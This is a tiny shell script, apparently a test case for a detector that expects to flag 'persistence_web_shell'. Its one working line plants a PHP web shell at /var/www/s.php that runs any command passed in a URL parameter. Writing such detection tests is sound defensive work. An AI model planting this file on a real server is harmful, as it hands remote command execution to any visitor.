#!/bin/sh
# A page is written that runs commands from its visitors.
# expects: persistence_web_shell 1

mkdir -p /var/www
sh -c "echo '<?php system(\$_GET[0]); ?>' > /var/www/s.php"
